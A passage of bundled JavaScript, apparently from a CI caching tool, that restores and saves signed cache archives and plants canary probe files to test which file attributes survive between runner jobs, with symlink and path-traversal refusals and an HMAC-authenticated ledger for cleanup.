            entries,
            counts: summaries.map(x => ({ files: x.files, bytes: x.bytes }))
        };
    }
    finally {
        removeScratch(scratch);
    }
}
async function restoreSealedCache(opts) {
    const t0 = performance.now();
    const base = {
        primaryKey: opts.key,
        signedBy: [],
        before: [],
        after: [],
        restored: false,
        files: 0,
        bytes: 0
    };
    const done = (r) => ({
        ...base,
        wipe: (r.before ?? []).length > 0
            ? wipeSignature(r.before ?? [])
            : opts.locations.some(onDisk)
                ? 'unknown'
                : 'cold-start',
        ...r,
        ms: Math.round(performance.now() - t0)
    });
    await prepareSealTrust(opts.trust);
    const found = await opts.cache.find(spellings(opts), opts.key, opts.restoreKeys);
    if (!found)
        return done({ outcome: 'miss', reason: `no cache for key ${shown(opts.key)}` });
    const matchedKey = found.matchedKey;
    const hit = found.exact ? 'hit' : 'stale';
    const signedBy = [];
    base.signedBy = signedBy;
    const refused = (err, before = []) => done({ outcome: 'refused', matchedKey, reason: sealed_cache_reasonOf(err), before });
    // Only the seal first: for a lookup, or when something is on disk that may already be sealed.
    let first;
    let entries = [];
    if (opts.lookupOnly || opts.locations.some(onDisk)) {
        const peek = new SealedArchive({
            sealMember: opts.sealFile.member,
            accept: acceptFor(opts, opts.trust, matchedKey, signedBy),
            sealOnly: true,
            destOf: () => opts.scratchBase
        });
        try {
            await unpack(await found.open(), found.compression, peek);
            throw new Rejected('no seal: the archive is empty');
        }
        catch (err) {
            if (!(err instanceof SealOnly))
                return refused(err);
        }
        first = peek.seal;
        entries = peek.entries;
        if (opts.lookupOnly)
            return done({ outcome: hit, matchedKey });
    }
    const before = first
        ? await verifySealed(entries, { jobs: opts.jobs, nativeWalk: opts.nativeWalk })
        : [];
    if (first && before.every(f => f.status === 'OK'))
        return done({ outcome: hit, matchedKey, before, after: before });
    try {
        const r = await extractAndPlace(opts, found.open, found.compression, acceptFor(opts, opts.trust, matchedKey, signedBy, first?.bytes));
        const shownBefore = first ? before : missingFindings(r.entries);
        return done({
            outcome: hit,
            // Nothing of it was on disk: a fresh runner, whatever the paths are called.
            ...(first ? {} : { wipe: 'cold-start' }),
            matchedKey,
            before: shownBefore,
            after: sealed_cache_provenFindings(r.entries, r.counts),
            restored: true,
            files: r.counts.reduce((n, c) => n + c.files, 0),
            bytes: r.counts.reduce((n, c) => n + c.bytes, 0)
        });
    }
    catch (err) {
        return refused(err, before);
    }
}
/** Seal the paths as they are now, sign the seal, and save it with them under `key`. */
async function saveSealedCache(opts) {
    const t0 = performance.now();
    const result = (r) => ({
        key: opts.key,
        ...r,
        ms: Math.round(performance.now() - t0)
    });
    const absent = opts.locations.filter(l => !onDisk(l));
    if (absent.length > 0)
        return result({
            outcome: 'skipped',
            reason: `not saved: ${absent.map(l => shown(l.spelling)).join(', ')} not on disk`,
            signedBy: [],
            files: 0
        });
    const body = await makeSealBody({
        key: opts.key,
        locations: opts.locations,
        at: opts.at,
        run: opts.run,
        pool: opts.pool
    });
    const doc = await signSeal(body, opts.signers);
    const signedBy = doc.signatures.map(s => s.alg === 'hmac-sha256' ? `hmac ${s.keyid}` : `ml-dsa ${s.keyid.slice(0, 16)}`);
    const dir = external_node_path_default().dirname(opts.sealFile.file);
    external_node_fs_default().rmSync(dir, { recursive: true, force: true });
    external_node_fs_default().mkdirSync(dir, { recursive: true, mode: 0o700 });
    try {
        atomic_writeFileAtomic(opts.sealFile.file, encodeSeal(doc));
        const outcome = await opts.cache.save(spellings(opts), opts.key);
        const files = body.paths.reduce((n, p) => n + (p.entry.kind === 'tree' ? (p.entry.expect.files ?? 0) : 1), 0);
        return result({
            outcome,
            signedBy,
            files,
            ...(outcome === 'exists'
                ? { reason: `a cache for key ${shown(opts.key)} exists already` }
                : {}),
            ...(outcome === 'failed' ? { reason: 'the cache service did not take the archive' } : {})
        });
    }
    finally {
        external_node_fs_default().rmSync(dir, { recursive: true, force: true });
    }
}

;// CONCATENATED MODULE: ./src/core/engine/write-back.ts






/** Save the entries `ids` of `m` that verify now. Nothing is saved when one cannot be. */
async function write_back_writeBack(m, ids, opts) {
    const byId = new Map(m.body.entries.map(e => [e.id, e]));
    const entries = ids.map(id => byId.get(id));
    if (entries.some(e => e === undefined))
        return { refused: 'the saved state names entries the manifest does not have' };
    const wanted = entries;
    const root = external_node_fs_default().realpathSync(m.workspace);
    for (const e of wanted) {
        const refusal = pathRefusal(root, e);
        if (refusal)
            return { refused: `entry ${e.id}: ${refusal}` };
    }
    const findings = 'findings' in opts.current
        ? opts.current.findings
        : await selection_reverifier(m, opts.current.reverify)(wanted);
    const saved = [];
    for (const e of wanted) {
        const key = stateKey(e);
        const f = findings.find(x => x.id === e.id);
        if (f?.status !== 'OK') {
            saved.push({ id: e.id, key, outcome: 'changed', status: f?.status });
            continue;
        }
        // The path as the restore names it: the cache version hashes the path string.
        const outcome = await opts.client.save(resolveEntryPath(m.workspace, e.path), key);
        saved.push({ id: e.id, key, outcome });
    }
    return { saved };
}
/**
 * The post step's write-back. The hand-over is not trusted (anything that writes to the job's
 * state file can forge it): the manifest must be the one the main step checked and pass the same
 * signature gate under this step's own policy, and the ids must be entries of it.
 */
async function writeBackHandedOver(m, handed, opts) {
    if (m.digest !== handed.digest)
        return { refused: 'the manifest is not the one the main step checked' };
    const gate = await gate_decide(gate_gateInput(m), opts.policy);
    if (!gate.allowed)
        return { refused: 'the manifest does not pass the signature gate' };
    return write_back_writeBack(m, handed.ids, { client: opts.client, current: { reverify: opts.reverify } });
}
/** How a saved entry is told, after the shell's own prefix. */
function savedLine(s) {
    if (s.outcome === 'changed')
        return `${s.id} no longer verifies (${s.status ?? '?'}): not saved`;
    const how = s.outcome === 'saved'
        ? 'saved as'
        : s.outcome === 'exists'
            ? 'already saved as'
            : 'could not be saved as';
    return `${s.id} ${how} ${s.key}`;
}
/**
 * Why `e` below `root` cannot be saved, or undefined: every component must be a real directory
 * (no symlink followed) and the entry itself no symlink unless it is a `link` entry.
 */
function pathRefusal(root, e) {
    const parts = external_node_path_default().posix.normalize(e.path).split('/');
    if (external_node_path_default().isAbsolute(e.path) || parts.includes('..'))
        return 'path leaves the workspace';
    let at = root;
    for (const [i, part] of parts.entries()) {
        if (part === '.' || part === '')
            continue;
        at = external_node_path_default().join(at, part);
        let st;
        try {
            st = external_node_fs_default().lstatSync(at);
        }
        catch {
            return `${parts.slice(0, i + 1).join('/')} is absent`;
        }
        const last = i === parts.length - 1;
        if (st.isSymbolicLink() && !(last && e.kind === 'link'))
            return `${parts.slice(0, i + 1).join('/')} is a symlink`;
        if (!last && !st.isDirectory())
            return `${parts.slice(0, i + 1).join('/')} is not a directory`;
    }
    return undefined;
}

;// CONCATENATED MODULE: ./src/core/canary/anchor.ts
/**
 * Where a probe lives, said relative to a place that has another absolute path on the next runner:
 * the workspace (GITHUB_WORKSPACE moves between runners and checkouts), the home directory or the
 * temp directory. A ledger planted on one machine and read on another still finds its probes.
 */

function inside(dir, abs) {
    const rel = external_node_path_default().relative(dir, abs);
    if (rel === '')
        return '';
    if (rel.startsWith('..') || external_node_path_default().isAbsolute(rel))
        return undefined;
    return rel.split((external_node_path_default()).sep).join('/');
}
/** The workspace first: a workspace inside $HOME is still described by the workspace. */
function anchor_anchor(abs, anchors) {
    for (const name of ['workspace', 'home', 'tmp']) {
        const rel = inside(anchors[name], abs);
        if (rel !== undefined)
            return { anchor: name, rel };
    }
    return { anchor: 'abs', rel: external_node_path_default().resolve(abs) };
}
function resolveAnchored(a, anchors) {
    if (a.anchor === 'abs')
        return a.rel;
    return a.rel === '' ? anchors[a.anchor] : external_node_path_default().join(anchors[a.anchor], ...a.rel.split('/'));
}
/** `~/x`, `$TMPDIR/x`, `x` (workspace) or the absolute path: short and unambiguous in reports. */
function showAnchored(a) {
    switch (a.anchor) {
        case 'workspace':
            return a.rel === '' ? '.' : a.rel;
        case 'home':
            return a.rel === '' ? '~' : `~/${a.rel}`;
        case 'tmp':
            return a.rel === '' ? '$TMPDIR' : `$TMPDIR/${a.rel}`;
        case 'abs':
            return a.rel;
    }
}
/**
 * For tables: a 255-byte probe name or a 20-level path would push every column off the screen,
 * so long names keep their head and byte count, and deep paths their two ends.
 */
function abbreviate(p) {
    const segs = p
        .split('/')
        .map(seg => Buffer.byteLength(seg) > 60 ? `${seg.slice(0, 40)}…(${Buffer.byteLength(seg)} bytes)` : seg);
    return segs.length > 6 ? [...segs.slice(0, 2), '…', ...segs.slice(-2)].join('/') : segs.join('/');
}

;// CONCATENATED MODULE: ./src/core/canary/clean.ts
/**
 * Removing exactly what a planting made: each probe only while it is still the kind of thing that
 * was planted (a probe name now holding a user's directory is left alone), then the directories
 * the planting created, deepest first, only when empty.
 */




/**
 * Where an anchored path is, resolved without following a symlink below its anchor (a probe's
 * directory swapped for a link to elsewhere is not acted on); an absolute one (an --at path
 * outside the workspace) must at least sit in a directory that is not a symlink.
 */
function locate(a, anchors) {
    if (a.anchor !== 'abs')
        return no_follow_resolveNoFollow(anchors[a.anchor], a.rel);
    const abs = resolveAnchored(a, anchors);
    if (external_node_fs_default().lstatSync(external_node_path_default().dirname(abs), { throwIfNoEntry: false })?.isSymbolicLink())
        throw new no_follow_SymlinkRefusal(external_node_path_default().dirname(abs), 'is a symlink; not following it');
    return abs;
}
function plantedKind(p) {
    return p.expect.type === 'hardlink' ? 'file' : p.expect.type;
}
function removeIfPlanted(abs, kind, shown, out) {
    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
    if (!st)
        return;
    const now = st.isSymbolicLink()
        ? 'symlink'
        : st.isDirectory()
            ? 'dir'
            : st.isFile()
                ? 'file'
                : 'other';
    if (now !== kind) {
        out.kept.push({ path: shown, why: `now a ${now}, not the ${kind} that was planted` });
        return;
    }
    try {
        if (kind === 'dir')
            external_node_fs_default().rmdirSync(abs);
        else
            external_node_fs_default().unlinkSync(abs);
        out.removed.push(shown);
    }
    catch (e) {
        out.kept.push({ path: shown, why: e.code ?? String(e) });
    }
}
function clean_cleanLedger(ledger, anchors) {
    const out = { removed: [], kept: [] };
    // Links first, then files, then the empty directory a link points at.
    const order = (p) => p.expect.type === 'symlink' ? 0 : p.expect.type === 'dir' ? 2 : 1;
    for (const p of [...ledger.probes].sort((a, b) => order(a) - order(b))) {
        let abs;
        try {
            abs = locate(p.path, anchors);
        }
        catch (e) {
            if (!(e instanceof no_follow_SymlinkRefusal))
                throw e;
            out.kept.push({ path: showAnchored(p.path), why: e.message });
            continue;
        }
        removeIfPlanted(abs, plantedKind(p), showAnchored(p.path), out);
        if (p.expect.type === 'hardlink') {
            const peer = external_node_path_default().join(external_node_path_default().dirname(abs), p.expect.peer);
            removeIfPlanted(peer, 'file', external_node_path_default().join(external_node_path_default().dirname(showAnchored(p.path)), p.expect.peer), out);
        }
    }
    const dirs = ledger.locations.flatMap(l => l.created);
    for (const d of dirs.reverse()) {
        let abs;
        try {
            abs = locate(d, anchors);
        }
        catch (e) {
            if (!(e instanceof no_follow_SymlinkRefusal))
                throw e;
            out.kept.push({ path: showAnchored(d) + '/', why: e.message });
            continue;
        }
        const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
        if (!st?.isDirectory())
            continue;
        try {
            external_node_fs_default().rmdirSync(abs);
            out.removed.push(showAnchored(d) + '/');
        }
        catch {
            out.kept.push({
                path: showAnchored(d) + '/',
                why: 'not empty: holds files that were not planted'
            });
        }
    }
    return out;
}

;// CONCATENATED MODULE: ./src/core/canary/probes.ts
/**
 * Probe classes: each one asks a different question of whatever keeps (or drops) files between
 * runs. Does it keep exec bits? Private modes? Symlinks, to files and to directories? Empty
 * directories? Hard links as links? 255-byte and non-ASCII names? Dotfiles? Files above a size
 * cap? A probe records everything it expects, so a read names the attribute that changed.
 *
 * Every probe is created exclusively (O_EXCL, never following a link): planting never replaces a
 * file, and names carry the planting's random id so they cannot meet a user's file by chance.
 */




const PROBE_CLASSES = [
    'stamp',
    'script',
    'private',
    'symlink',
    'dirlink',
    'emptydir',
    'hardlink',
    'longname',
    'unicode',
    'dotfile',
    'large'
];
const CLASS_QUESTION = {
    stamp: 'small file with a random stamp',
    script: 'executable script (0755)',
    private: 'private file (0600)',
    symlink: 'relative symlink to a file',
    dirlink: 'symlink to a directory',
    emptydir: 'empty directory',
    hardlink: 'hard-link pair',
    longname: 'file name of 255 bytes',
    unicode: 'non-ASCII file name',
    dotfile: 'dotfile',
    large: 'large file (size caps)'
};
/** The bytes names may use, so a 255-byte name fits every common file system's limit exactly. */
const NAME_MAX = 255;
function probeName(plantId, cls) {
    const base = `swr-canary-${plantId}-${cls}`;
    switch (cls) {
        case 'dotfile':
            return `.${base}`;
        case 'unicode':
            // NFC on purpose: a store that normalises to NFD changes the name, which reads as lost.
            return `${base}-\u00fcn\u00efc\u00f8d\u00e9-\u540d\u524d-\u{1f424}`.normalize('NFC');
        case 'longname':
            return base + '-' + 'l'.repeat(NAME_MAX - Buffer.byteLength(base) - 1);
        case 'hardlink':
            return `${base}-a`;
        default:
            return base;
    }
}
function hardlinkPeerName(plantId) {
    return `swr-canary-${plantId}-hardlink-b`;
}
function probes_octal(mode) {
    return '0' + (mode & 0o7777).toString(8).padStart(3, '0');
}
function sha256(data) {
    return (0,external_node_crypto_.createHash)('sha256').update(data).digest('hex');
}
const probes_CREATE = (external_node_fs_default()).constants.O_WRONLY | (external_node_fs_default()).constants.O_CREAT | (external_node_fs_default()).constants.O_EXCL | (external_node_fs_default()).constants.O_NOFOLLOW;
/**
 * Open a new probe file exclusively and count it as created at once: a write that fails after
 * the open (a full disk) must still be undone.
 */
function openProbe(abs, mode, created) {
    const fd = external_node_fs_default().openSync(abs, probes_CREATE, mode);
    created.push(abs);
    return fd;
}
/** Create `abs` exclusively with exactly `mode` (fchmod, so the umask cannot narrow it). */
function probes_createFile(abs, data, mode, created) {
    const fd = openProbe(abs, mode, created);
    try {
        writeAll(fd, data);
        external_node_fs_default().fchmodSync(fd, mode);
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
}
/**
 * Incompressible bytes, streamed: a cache that compresses would otherwise store 64 MiB of zeros
 * in a few kilobytes and never meet its size cap. AES-CTR keystream under a random key is fast
 * and needs no buffer of the whole size.
 */
function createLarge(abs, size, created) {
    const cipher = (0,external_node_crypto_.createCipheriv)('aes-256-ctr', (0,external_node_crypto_.randomBytes)(32), (0,external_node_crypto_.randomBytes)(16));
    const hash = (0,external_node_crypto_.createHash)('sha256');
    const zero = Buffer.alloc(1 << 20);
    const fd = openProbe(abs, 0o644, created);
    try {
        for (let left = size; left > 0;) {
            const n = Math.min(left, zero.length);
            const chunk = cipher.update(zero.subarray(0, n));
            writeAll(fd, chunk);
            hash.update(chunk);
            left -= n;
        }
        external_node_fs_default().fchmodSync(fd, 0o644);
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
    return hash.digest('hex');
}
function stampText(plantId, cls) {
    return Buffer.from(`swr canary ${plantId} ${cls} ${(0,external_node_crypto_.randomBytes)(12).toString('hex')}\n`);
}
/**
 * Plant one probe of `cls` in `ctx.dir`; returns its expectation, with paths relative to the
 * directory (the caller anchors them). Throws on EEXIST and every other failure; a disk error
 * (full, quota, I/O) as the one line naming the probe that every write of swr gives (exit 74).
 */
function plantProbe(cls, ctx) {
    const abs = external_node_path_default().join(ctx.dir, probeName(ctx.plantId, cls));
    try {
        return plantOne(cls, ctx);
    }
    catch (err) {
        throw asWriteError(err, abs);
    }
}
function plantOne(cls, ctx) {
    const name = probeName(ctx.plantId, cls);
    const abs = external_node_path_default().join(ctx.dir, name);
    const file = (data, mode) => {
        probes_createFile(abs, data, mode, ctx.created);
        return { type: 'file', mode: probes_octal(mode), size: data.length, sha256: sha256(data) };
    };
    switch (cls) {
        case 'script': {
            const body = `#!/bin/sh\n# swr canary ${ctx.plantId}\necho ${(0,external_node_crypto_.randomBytes)(8).toString('hex')}\n`;
            return { name, expect: file(Buffer.from(body), 0o755) };
        }
        case 'private':
            return { name, expect: file(stampText(ctx.plantId, cls), 0o600) };
        case 'stamp':
        case 'longname':
        case 'unicode':
        case 'dotfile':
            return { name, expect: file(stampText(ctx.plantId, cls), 0o644) };
        case 'large': {
            const digest = createLarge(abs, ctx.largeBytes, ctx.created);
            return { name, expect: { type: 'file', mode: '0644', size: ctx.largeBytes, sha256: digest } };
        }
        case 'emptydir':
            external_node_fs_default().mkdirSync(abs, { mode: 0o755 });
            ctx.created.push(abs);
            external_node_fs_default().chmodSync(abs, 0o755);
            return { name, expect: { type: 'dir', mode: '0755' } };
        case 'symlink':
        case 'dirlink': {
            // Relative targets: an absolute one would point back at the old machine after a move.
            const target = cls === 'symlink' ? probeName(ctx.plantId, 'stamp') : probeName(ctx.plantId, 'emptydir');
            external_node_fs_default().symlinkSync(target, abs);
            ctx.created.push(abs);
            return {
                name,
                expect: { type: 'symlink', target, resolves: cls === 'symlink' ? 'file' : 'dir' }
            };
        }
        case 'hardlink': {
            const data = stampText(ctx.plantId, cls);
            probes_createFile(abs, data, 0o644, ctx.created);
            const peer = hardlinkPeerName(ctx.plantId);
            external_node_fs_default().linkSync(abs, external_node_path_default().join(ctx.dir, peer));
            ctx.created.push(external_node_path_default().join(ctx.dir, peer));
            return {
                name,
                expect: { type: 'hardlink', mode: '0644', size: data.length, sha256: sha256(data), peer }
            };
        }
    }
}
/** Links need their targets first: plant in this order. */
function plantingOrder(classes) {
    const rank = (c) => (c === 'symlink' || c === 'dirlink' ? 1 : 0);
    return [...classes].sort((a, b) => rank(a) - rank(b));
}

;// CONCATENATED MODULE: ./src/core/canary/ledger.ts
/**
 * The canary ledger: what one planting put where, kept in the private state directory (0600,
 * written atomically). It is the only record of the probes, so reading it is strict: a damaged
 * ledger is an error naming the field, never a silent "everything lost".
 *
 * Clean removes what the ledger names, so the ledger is authenticated before anything acts on it:
 * HMAC-SHA256 over its canonical JSON under a key kept beside it (ledger.key, 32 random bytes,
 * created 0600 with the first planting). A ledger that fails is refused in one line and nothing is
 * removed. The key guards against a ledger written by anything but swr with this state directory;
 * where the state directory itself travels (the Action's cache), it is as strong as that channel,
 * and the name rules below still confine what a ledger may name.
 */








const LEDGER_FORMAT = 'swr-canary-ledger/1';
const CANARY_DIR = 'canary';
const LEDGER_FILE = 'ledger.json';
const KEY_FILE = 'ledger.key';
const MAX_LEDGER_BYTES = 8 * 1024 * 1024;
function ledgerPath(stateDir) {
    return external_node_path_default().join(stateDir, CANARY_DIR, LEDGER_FILE);
}
function ledger_keyPath(stateDir) {
    return external_node_path_default().join(stateDir, CANARY_DIR, KEY_FILE);
}
/** The ledger key, or undefined when there is none (nothing was planted with this state). */
function readKey(stateDir) {
    const file = ledger_keyPath(stateDir);
    let fd;
    try {
        fd = external_node_fs_default().openSync(file, (external_node_fs_default()).constants.O_RDONLY | (external_node_fs_default()).constants.O_NOFOLLOW);
    }
    catch (e) {
        if (e.code === 'ENOENT')
            return undefined;
        throw bad(file, `cannot be read (${e.code ?? String(e)})`);
    }
    try {
        const buf = Buffer.alloc(128);
        const n = external_node_fs_default().readSync(fd, buf, 0, buf.length, 0);
        const text = buf.subarray(0, n).toString('utf8').trim();
        if (!/^[0-9a-f]{64}$/.test(text))
            throw bad(file, 'is not a ledger key (64 hex digits)');
        return Buffer.from(text, 'hex');
    }
    finally {
        external_node_fs_default().closeSync(fd);
    }
}
/** The key, created on first use (exclusively, 0600: a concurrent creator's key wins). */
function ledgerKey(stateDir) {
    const have = readKey(stateDir);
    if (have)
        return have;
    state_dir_ensurePrivateDir(stateDir, CANARY_DIR);
    try {
        atomic_writeFileAtomic(ledger_keyPath(stateDir), (0,external_node_crypto_.randomBytes)(32).toString('hex') + '\n', {
            mode: 0o600,
            exclusive: true
        });
    }
    catch (e) {
        if (e.code !== 'EEXIST')
            throw e;
    }
    const key = readKey(stateDir);
    if (!key)
        throw bad(ledger_keyPath(stateDir), 'vanished after it was created');
    return key;
}
function macOf(key, body) {
    return (0,external_node_crypto_.createHmac)('sha256', key).update(canonicalBytes(body)).digest('hex');
}
function writeLedger(stateDir, ledger) {
    const key = ledgerKey(stateDir);
    const { mac: _old, ...body } = ledger;
    const signed = { ...body, mac: macOf(key, body) };
    atomic_writeFileAtomic(ledgerPath(stateDir), JSON.stringify(signed, null, 1) + '\n', { mode: 0o600 });
}
/** Throws unless `v` carries the MAC this state directory's key gives it. */
function authenticate(stateDir, file, v) {
    const refuse = (why) => bad(file, `${why}; nothing was removed (delete the ledger to plant again)`);
    const key = readKey(stateDir);
    if (!key)
        throw refuse('cannot be authenticated: no ledger key in the state directory');
    if (typeof v.mac !== 'string' || !/^[0-9a-f]{64}$/.test(v.mac))
        throw refuse('fails authentication: it carries no MAC');
    const { mac, ...body } = v;
    let want;
    try {
        want = macOf(key, body);
    }
    catch {
        throw refuse('fails authentication: it has no canonical form');
    }
    if (!(0,external_node_crypto_.timingSafeEqual)(Buffer.from(want, 'hex'), Buffer.from(mac, 'hex')))
        throw refuse('fails authentication: not written by swr with this state directory, or altered');
}
function bad(file, why) {
    return new errors_SwrError(`canary ledger ${file}: ${why}`, errors_EXIT.BAD_MANIFEST);
}
function isAnchored(v) {
    const a = v;
    return (typeof a === 'object' &&
        a !== null &&
        ['workspace', 'home', 'tmp', 'abs'].includes(a.anchor) &&
        typeof a.rel === 'string' &&
        !a.rel.split('/').includes('..'));
}
/**
 * Clean removes the directories a location lists as created (when empty), so a location may only
 * list its own directory and that directory's parents, and only where planting creates any: the
 * deep path and the temp directory carry this planting's name, a volatile directory is the named
 * directory of the workspace, --at paths are the caller's; the workspace and home create nothing.
 */
function createdProblem(plantId, l) {
    const under = (a, b) => a.anchor === b.anchor && (a.rel === b.rel || b.rel.startsWith(`${a.rel}/`));
    if (!l.created.every(c => under(c, l.dir)))
        return 'names a directory that is not the location';
    if (l.created.length === 0)
        return undefined;
    const first = l.created[0];
    const own = `swr-canary-${plantId}-`;
    if (l.id === 'deep')
        return first.anchor === 'workspace' && first.rel === `${own}deep`
            ? undefined
            : 'is not the deep path';
    if (l.id === 'tmp')
        return l.created.length === 1 && external_node_path_default().posix.basename(first.rel).startsWith(own)
            ? undefined
            : "is not this planting's temp directory";
    if (l.id.startsWith('volatile:'))
        return l.created.length === 1 &&
            first.anchor === 'workspace' &&
            first.rel === l.id.slice('volatile:'.length) &&
            !first.rel.includes('/')
            ? undefined
            : 'is not the volatile directory';
    return l.id.startsWith('at:') ? undefined : `lists directories, but ${l.id} creates none`;
}
function checkProbe(file, plantId, p, i, locations) {
    const where = `probes[${i}]`;
    if (!PROBE_CLASSES.includes(p?.class))
        throw bad(file, `${where}.class is not a probe class`);
    if (!locations.has(p.location))
        throw bad(file, `${where}.location names no location`);
    if (!isAnchored(p.path))
        throw bad(file, `${where}.path is not an anchored path`);
    // Clean unlinks what the ledger names: a ledger (say, restored from a poisoned cache) may only
    // name files this planting's naming rule produces, never a user's file.
    if (external_node_path_default().posix.basename(p.path.rel) !== probeName(plantId, p.class))
        throw bad(file, `${where}.path is not a ${p.class} probe of planting ${plantId}`);
    const e = p.expect;
    if (typeof e !== 'object' ||
        e === null ||
        !['file', 'dir', 'symlink', 'hardlink'].includes(e.type))
        throw bad(file, `${where}.expect.type is not file, dir, symlink or hardlink`);
    if ((e.type === 'symlink' || e.type === 'hardlink') &&
        typeof (e.type === 'symlink' ? e.target : e.peer) !== 'string')
        throw bad(file, `${where}.expect has no link target`);
    if (e.type === 'hardlink' && e.peer !== hardlinkPeerName(plantId))
        throw bad(file, `${where}.expect.peer is not this planting's second name`);
    if ((e.type === 'file' || e.type === 'hardlink') && !/^[0-9a-f]{64}$/.test(e.sha256))
        throw bad(file, `${where}.expect.sha256 is not a sha256`);
}
/** The ledger, or undefined when nothing was planted; throws on a damaged ledger. */
function ledger_readLedger(stateDir) {
    const file = ledgerPath(stateDir);
    const st = external_node_fs_default().lstatSync(file, { throwIfNoEntry: false });
    if (!st)
        return undefined;
    if (!st.isFile())
        throw bad(file, 'is not a regular file');
    if (st.size > MAX_LEDGER_BYTES)
        throw bad(file, `larger than ${MAX_LEDGER_BYTES} bytes`);
    let v;
    try {
        v = JSON.parse(external_node_fs_default().readFileSync(file, 'utf8'));
    }
    catch (e) {
        throw bad(file, `not JSON (${e instanceof Error ? e.message : String(e)})`);
    }
    if (v?.format !== LEDGER_FORMAT)
        throw bad(file, `format is not ${LEDGER_FORMAT}`);
    if (typeof v.plant_id !== 'string' || !/^[0-9a-f]{8,32}$/.test(v.plant_id))
        throw bad(file, 'plant_id is not a planting id');
    if (!Array.isArray(v.locations) || !Array.isArray(v.probes))
        throw bad(file, 'locations and probes must be arrays');
    const ids = new Set();
    v.locations.forEach((l, i) => {
        if (typeof l?.id !== 'string' ||
            !isAnchored(l.dir) ||
            !Array.isArray(l.created) ||
            !l.created.every(isAnchored))
            throw bad(file, `locations[${i}] is malformed`);
        const why = createdProblem(v.plant_id, l);
        if (why)
            throw bad(file, `locations[${i}].created ${why}`);
        ids.add(l.id);
    });
    v.probes.forEach((p, i) => checkProbe(file, v.plant_id, p, i, ids));
    // Shape first (errors name the field), then the MAC, before anything acts on the ledger.
    authenticate(stateDir, file, v);
    return v;
}
function ledger_removeLedger(stateDir) {
    external_node_fs_default().rmSync(ledgerPath(stateDir), { force: true });
}

;// CONCATENATED MODULE: ./src/core/canary/locations.ts
/**
 * Where probes go: the places a runner, cache or sandbox treats differently. The workspace root, a
 * path 20 directories deep (path-length and depth limits), every volatile directory that exists
 * or is asked for (node_modules, build, .cache, ...: the usual exclusions), $HOME, a fresh
 * directory in the temp dir, and every `--at` path (what a cache step saves).
 */






const DEEP_LEVELS = 20;
function isRealDir(abs) {
    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
    return st?.isDirectory() === true;
}
function checkAt(abs) {
    const st = external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false });
    if (!st)
        return;
    if (st.isSymbolicLink())
        throw new errors_UsageError(`--at ${abs}: is a symlink; give the directory it points to`);
    if (!st.isDirectory())
        throw new errors_UsageError(`--at ${abs}: is not a directory`);
}
/** An --at path inside the workspace may not pass through a symlink there (the workspace is hostile). */
function insideWorkspaceNoFollow(workspace, abs, at) {
    const rel = no_follow_relativeInside(workspace, abs);
    if (rel === undefined || rel === '.')
        return;
    try {
        no_follow_resolveNoFollow(workspace, rel);
    }
    catch (e) {
        if (e instanceof no_follow_SymlinkRefusal)
            throw new errors_UsageError(`--at ${at}: ${e.message}`);
        throw e;
    }
}
function planLocations(req) {
    const out = [
        { id: 'workspace', abs: req.workspace, make: 'exists' },
        { id: 'deep', abs: external_node_path_default().join(req.workspace, `swr-canary-${req.plantId}-deep`), make: 'deep' }
    ];
    const names = new Set(req.volatile);
    for (const name of volatile_dirs_VOLATILE_DIRS)
        if (isRealDir(external_node_path_default().join(req.workspace, name)))
            names.add(name);
    for (const name of [...names].sort()) {
        if (!/^[^/\0]{1,255}$/.test(name) || name === '.' || name === '..')
            throw new errors_UsageError(`--volatile ${JSON.stringify(name)}: give a directory name, not a path`);
        const abs = external_node_path_default().join(req.workspace, name);
        // A probe, the multi-GiB large one included, must never land outside through a planted link.
        if (external_node_fs_default().lstatSync(abs, { throwIfNoEntry: false })?.isSymbolicLink())
            throw new errors_UsageError(`--volatile ${JSON.stringify(name)}: ${JSON.stringify(name)} in the workspace is a symlink; not planting through it`);
        out.push({ id: `volatile:${name}`, abs, make: isRealDir(abs) ? 'exists' : 'mkdir' });
    }
    if (req.includeHome && isRealDir(req.home))
        out.push({ id: 'home', abs: req.home, make: 'exists' });
    if (req.includeTmp)
        out.push({ id: 'tmp', abs: req.tmp, make: 'mkdtemp' });
    for (const at of req.at) {
        const abs = external_node_path_default().resolve(at);
        if (abs === external_node_path_default().parse(abs).root)
            throw new errors_UsageError(`--at ${at}: refusing the root directory`);
        checkAt(abs);
        insideWorkspaceNoFollow(req.workspace, abs, at);
        // Named as anchored, so the same directory keeps one history row across runners and paths.
        out.push({
            id: `at:${showAnchored(anchor_anchor(abs, req))}`,
            abs,
            make: external_node_fs_default().existsSync(abs) ? 'exists' : 'mkdir'
        });
    }
    // One location per directory: $HOME may be the workspace, an --at path may repeat another.
    const seen = new Set();
    return out.filter(l => l.make === 'mkdtemp' || !seen.has(l.abs) ? (seen.add(l.abs), true) : false);
}
/** Make the location exist; returns the directory and what was created, for undo and clean. */
function materialize(loc, plantId, anchors, created) {
    let dir = loc.abs;
    const mine = [];
    switch (loc.make) {
        case 'exists':
            break;
        case 'mkdir': {
            const first = external_node_fs_default().mkdirSync(loc.abs, { recursive: true, mode: 0o755 });
            // mkdirSync returns the first directory it made: every level from there down is ours.
            if (first)
                for (let d = loc.abs;; d = external_node_path_default().dirname(d)) {
                    mine.unshift(d);
                    if (d === first)
                        break;
                }
            break;
        }
        case 'deep': {
            external_node_fs_default().mkdirSync(loc.abs, { mode: 0o755 });
            mine.push(loc.abs);
            for (let i = 2; i <= DEEP_LEVELS; i++) {
                dir = external_node_path_default().join(dir, `d${String(i).padStart(2, '0')}`);
                external_node_fs_default().mkdirSync(dir, { mode: 0o755 });
                mine.push(dir);
            }
            break;
        }
        case 'mkdtemp':
            // A fresh random directory: never a fixed name in a directory other users share.
            dir = external_node_fs_default().mkdtempSync(external_node_path_default().join(loc.abs, `swr-canary-${plantId}-`));
            mine.push(dir);
            break;
    }
    created.push(...mine);
    return {
        location: { id: loc.id, dir: anchor_anchor(dir, anchors), created: mine.map(d => anchor_anchor(d, anchors)) },
        abs: dir
    };
}

;// CONCATENATED MODULE: ./src/core/canary/plant.ts
/**
 * Planting: decide the locations, create every probe exclusively, and record them in the ledger.
 * All or nothing: when any probe cannot be created, everything this planting made is removed and
 * no ledger is written, so a failed plant leaves the machine as it was.
 */









const DEFAULT_LARGE_BYTES = 64 * 1024 * 1024;
